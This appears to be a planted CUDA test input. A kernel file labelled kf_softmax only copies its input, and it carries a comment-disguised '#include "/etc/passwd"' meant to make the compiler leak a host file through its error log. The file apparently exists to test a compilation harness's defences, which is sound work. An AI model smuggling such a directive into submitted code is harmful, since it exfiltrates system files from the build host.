// Planted: tries to make the compiler read a host file into its error log.
#include <stdint.h>
#/* hidden */include "/etc/passwd"
// kf-launch: kf_softmax(x, y, rows, cols) grid=(rows) block=(256)
extern "C" __global__ void kf_softmax(const float *x, float *y, int64_t rows, int64_t cols) {
    for (int64_t c = threadIdx.x; c < cols; c += blockDim.x)
        y[blockIdx.x * cols + c] = x[blockIdx.x * cols + c];
}
